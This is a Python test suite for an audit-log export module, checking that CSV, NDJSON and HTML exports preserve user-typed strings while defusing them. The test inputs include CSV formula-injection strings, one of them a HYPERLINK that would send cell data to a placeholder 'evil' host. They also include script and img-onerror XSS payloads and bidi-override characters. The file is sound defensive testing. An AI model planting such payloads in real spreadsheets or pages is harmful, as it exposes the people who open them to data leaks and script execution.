"""Exports are harmless: strings organisations typed come out intact and inert."""

from __future__ import annotations

import csv
import io
import json

import pytest

from clients.exports import (
    ENTRY_COLUMNS,
    ReportRow,
    csv_text,
    entry_row,
    ndjson_line,
    neutral_cell,
    neutral_text,
    report_csv,
    report_html,
)
from protocol.auditlog import AuditEntry

NOW = 1_750_000_000
# Strings the hub accepts (printable ASCII user ids; purpose text without category C).
USERS = ['=HYPERLINK("http://evil/?"&A1)', "<script>alert(1)</script>", "+SUM(A1)", "@cmd", "-1"]
TEXTS = [
    '=HYPERLINK("http://evil","click")',
    "<script>alert('x')</script> & <img src=x onerror=alert(1)>",
    'tekst met "aanhalingstekens", komma\'s en \\u202e als tekst',
    "\\n\\r\\u0000 escaped sequences as typed",
    "één café — ünïcødé ✓ 😀",
]


def entry(user: str, text: str) -> AuditEntry:
    return AuditEntry(
        index=0,
        time=NOW,
        action="read",
        outcome="allowed",
        reason=None,
        org="police",
        user=user,
        role="member",
        purpose="audit",
        purpose_text=text,
        object_type="audit",
        object_ids=(),
        pseudonyms=(),
        source="::1",
        request_id="abc-123",
    )


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("text", TEXTS)
def test_ndjson_gives_back_the_exact_strings_in_ascii(user: str, text: str) -> None:
    line = ndjson_line({"entry": entry(user, text).to_wire()})
    assert line.isascii() and line.endswith("\n") and line.count("\n") == 1
    back = AuditEntry.from_wire(json.loads(line)["entry"])
    assert back.user == user and back.purpose_text == text


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("text", TEXTS)
def test_csv_fields_are_intact_and_never_formulas(user: str, text: str) -> None:
    document = csv_text(ENTRY_COLUMNS, [entry_row(entry(user, text))])
    rows = list(csv.reader(io.StringIO(document)))
    assert len(rows) == 2 and rows[0] == list(ENTRY_COLUMNS)
    cells = dict(zip(ENTRY_COLUMNS, rows[1], strict=True))
    assert cells["user"] == ("'" + user if user[0] in "=+-@" else user)
    assert cells["purpose_text"] == ("'" + text if text[0] in "=+-@" else text)
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in rows[1])


@pytest.mark.parametrize(
    "raw, shown",
    [
        ("a\u202eb", "a\\u202eb"),  # right-to-left override
        ("x\u2028y\u2029z", "x\\u2028y\\u2029z"),
        ("\tTAB", "'\\u0009TAB"),
        ("\r=1", "'\\u000d=1"),
        ("nul\x00", "nul\\u0000"),
        ("bom\ufeff", "bom\\ufeff"),
        ("tag\U000e0041", "tag\\U000e0041"),
        ("=1+2", "'=1+2"),
        ("plain", "plain"),
        (None, ""),
    ],
)
def test_neutral_cell_shows_invisible_characters_and_defuses_formulas(
    raw: str | None, shown: str
) -> None:
    assert neutral_cell(raw) == shown


def test_a_multi_line_value_stays_on_one_csv_line() -> None:
    document = csv_text(["a"], [["one\ntwo\r\nthree\u2028four"]])
    assert document == "a\r\none\\u000atwo\\u000d\\u000athree\\u2028four\r\n"


@pytest.mark.parametrize("user", USERS)
@pytest.mark.parametrize("text", TEXTS)
def test_html_escapes_everything(user: str, text: str) -> None:
    row = ReportRow.of(entry(user, text))
    page = report_html("Report for <b>x</b>", ["summary \u202e"], [row])
    assert "<script>" not in page and "<img" not in page and "<b>x" not in page
    assert "\u202e" not in page and "\\u202e" in page
    assert page.count("<script") == 0 and "default-src 'none'" in page


def test_report_csv_columns() -> None:
    row = ReportRow.of(entry("j.jansen", "reden"), ["A" * 22])
    lines = report_csv([row]).splitlines()
    assert lines[0].startswith("time (UTC),organisation,user,role,action,purpose")
    assert lines[1] == (
        "2025-06-15T15:06:40Z,police,j.jansen,member,read,audit,reden,allowed,audit,"
        + "A" * 22
        + ",0"
    )


def test_neutral_text_of_plain_unicode_is_unchanged() -> None:
    assert neutral_text("één café 😀") == "één café 😀"
